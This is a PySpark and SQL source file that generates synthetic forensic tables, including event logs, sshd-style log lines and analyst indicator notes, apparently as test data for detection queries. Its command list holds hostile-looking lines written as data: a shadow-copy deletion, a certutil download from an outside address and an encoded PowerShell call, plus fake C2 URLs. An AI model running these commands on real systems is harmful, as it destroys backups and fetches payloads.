"""The driver tables in the roles of the forensic model, as DataFrames and as the same SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

CODES = {"error": 4625, "click": 4624, "view": 1, "signup": 4720, "purchase": 7045}
COMMANDS = ("powershell -NoProfile -EncodedCommand AAAA", "cmd /c VSSADMIN Delete Shadows /all", "C:\\tools\\notepad.exe", "certutil.exe -URLCache -f http://198.51.100.7/a.bin")
IMAGES = ("C:\\Windows\\powershell.exe", "C:\\Windows\\System32\\vssadmin.exe", "C:\\tools\\notepad.exe", "C:\\Windows\\System32\\CertUtil.exe")
SERVICES = ("PSEXESVC", "MyLegitService")


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _pick(number, values):
    return F.element_at(F.array(*[F.lit(v) for v in values]), (number % len(values) + 1).cast("int"))


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Event-log rows: seq, ts, user_id, event_type, value, event_code, data (map), k."""
    e = table(spark, sf_dir, "events").withColumn("k", F.coalesce(F.get_json_object("props", "$.k").cast("int"), F.lit(0)))
    code = F.coalesce(*[F.when(F.col("event_type") == t, c) for t, c in CODES.items()])
    data = F.create_map(
        F.lit("CommandLine"), F.when(F.col("event_type") == "view", _pick(F.col("k"), COMMANDS)),
        F.lit("Image"), F.when(F.col("event_type") == "view", F.lit("")),
        F.lit("NewProcessName"), F.when(F.col("event_type") == "view", _pick(F.col("k"), IMAGES)),
        F.lit("LogonType"), F.when(F.col("event_type") == "click", (F.col("k") % 12).cast("string")),
        F.lit("ServiceName"), F.when(F.col("event_type") == "purchase", _pick(F.col("k"), SERVICES)),
    )
    return e.select(F.col("event_id").alias("seq"), "ts", "user_id", "event_type", "value", "k", code.alias("event_code"), data.alias("data"))


def _case(number: str, values) -> str:
    return "CASE " + " ".join(f"WHEN {number} % {len(values)} = {i} THEN '{v}'" for i, v in enumerate(values)) + " END"


EVENTS_SQL = f"""(SELECT event_id AS seq, ts, user_id, event_type, value, k,
    CASE event_type {" ".join(f"WHEN '{t}' THEN {c}" for t, c in CODES.items())} END AS event_code,
    CASE WHEN event_type = 'view' THEN {_case("k", COMMANDS)} ELSE '' END AS command_line,
    CASE WHEN event_type = 'view' THEN {_case("k", IMAGES)} ELSE '' END AS image,
    CASE WHEN event_type = 'click' THEN CAST(k % 12 AS VARCHAR) ELSE '' END AS logon_type,
    CASE WHEN event_type = 'purchase' THEN {_case("k", SERVICES)} ELSE '' END AS service_name
    FROM (SELECT *, coalesce(TRY_CAST(json_extract_string(props, '$.k') AS INTEGER), 0) AS k FROM events))"""


def log_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(seq, line): events rendered as syslog or plain lines."""
    e = events(spark, sf_dir)
    host = F.concat(F.lit("srv"), (F.col("user_id") % 7).cast("string"))
    text = F.coalesce(F.when(F.col("event_type") == "error", F.lit("Failed password for root")), F.when(F.col("event_type") == "click", F.lit("session opened, warning issued")), F.when(F.col("event_type") == "view", F.lit("CRITICAL disk state")), F.when(F.col("event_type") == "signup", F.lit("notice: user added")), F.lit("heartbeat"))
    address = F.concat(F.lit(" from 203.0.113."), (F.col("user_id") % 250).cast("string"))
    pid = F.when(F.col("k") % 2 == 0, F.concat(F.lit("["), F.col("seq").cast("string"), F.lit("]"))).otherwise(F.lit(""))
    sys = F.concat(F.date_format("ts", "MMM dd HH:mm:ss"), F.lit(" "), host, F.lit(" sshd"), pid, F.lit(": "), text, address)
    plain = F.concat(F.date_format("ts", "yyyy-MM-dd HH:mm:ss"), F.lit(" "), host, F.lit(" "), text)
    return e.select("seq", F.when(F.col("k") % 5 == 4, plain).otherwise(sys).alias("line"))


LINES_SQL = f"""(SELECT seq, CASE WHEN k % 5 = 4 THEN strftime(ts, '%Y-%m-%d %H:%M:%S') || ' srv' || (user_id % 7) || ' ' || txt
    ELSE strftime(ts, '%b %d %H:%M:%S') || ' srv' || (user_id % 7) || ' sshd' || CASE WHEN k % 2 = 0 THEN '[' || seq || ']' ELSE '' END || ': ' || txt || ' from 203.0.113.' || (user_id % 250) END AS line
    FROM (SELECT *, CASE event_type WHEN 'error' THEN 'Failed password for root' WHEN 'click' THEN 'session opened, warning issued' WHEN 'view' THEN 'CRITICAL disk state' WHEN 'signup' THEN 'notice: user added' ELSE 'heartbeat' END AS txt FROM {EVENTS_SQL}))"""


def investigations(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = table(spark, sf_dir, "customer")
    status = F.when(F.col("c_nationkey") % 3 == 0, "active").when(F.col("c_nationkey") % 3 == 1, "closed").otherwise("archived")
    return c.select(F.col("c_custkey").cast("string").alias("id"), F.col("c_name").alias("name"), F.col("c_mktsegment").alias("description"), status.alias("status"), F.col("c_custkey").alias("number"))


INVESTIGATIONS_SQL = "(SELECT CAST(c_custkey AS VARCHAR) AS id, c_name AS name, c_mktsegment AS description, CASE c_nationkey % 3 WHEN 0 THEN 'active' WHEN 1 THEN 'closed' ELSE 'archived' END AS status, c_custkey AS number FROM customer)"


def artifacts(spark: SparkSession, sf_dir: str) -> DataFrame:
    o = table(spark, sf_dir, "orders")
    return o.select(F.col("o_orderkey").alias("id"), F.col("o_custkey").cast("string").alias("investigation_id"), F.concat(F.lit("f"), F.col("o_orderkey").cast("string"), F.lit(".log")).alias("filename"), F.concat(F.lit("/up/"), F.col("o_orderpriority"), F.lit("/g"), F.col("o_orderkey").cast("string"), F.lit(".csv")).alias("file_path"), F.floor("o_totalprice").cast("long").alias("file_size"), F.col("o_orderdate").alias("uploaded_at"))


ARTIFACTS_SQL = "(SELECT o_orderkey AS id, CAST(o_custkey AS VARCHAR) AS investigation_id, 'f' || o_orderkey || '.log' AS filename, '/up/' || o_orderpriority || '/g' || o_orderkey || '.csv' AS file_path, CAST(floor(o_totalprice) AS BIGINT) AS file_size, o_orderdate AS uploaded_at FROM orders)"


def evidence_text(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(doc_id, line): each document's digest, identifiers and addresses as an analyst's note: all indicator families occur."""
    d = table(spark, sf_dir, "documents")
    n = F.col("doc_id").cast("string")
    line = F.concat(
        F.lit("h="), F.md5("text"), F.lit(" s1="), F.sha1("text"), F.lit(" S="), F.upper(F.sha2("text", 256)), F.lit(" cve-2024-"), F.lpad(n, 5, "0"),
        F.lit(" see http://c2-"), n, F.lit(".evil.xyz/p?x="), n, F.lit(" or Mail.User"), n, F.lit("@Evil.XYZ, peers 198.51.100."), (F.col("doc_id") % 250).cast("string"), F.lit(" and 10.0.0."), (F.col("doc_id") % 250).cast("string"),
    )
    return d.select("doc_id", line.alias("line"))


EVIDENCE_SQL = "(SELECT doc_id, 'h=' || md5(text) || ' s1=' || sha1(text) || ' S=' || upper(sha256(text)) || ' cve-2024-' || lpad(CAST(doc_id AS VARCHAR), 5, '0') || ' see http://c2-' || doc_id || '.evil.xyz/p?x=' || doc_id || ' or Mail.User' || doc_id || '@Evil.XYZ, peers 198.51.100.' || (doc_id % 250) || ' and 10.0.0.' || (doc_id % 250) AS line FROM documents)"
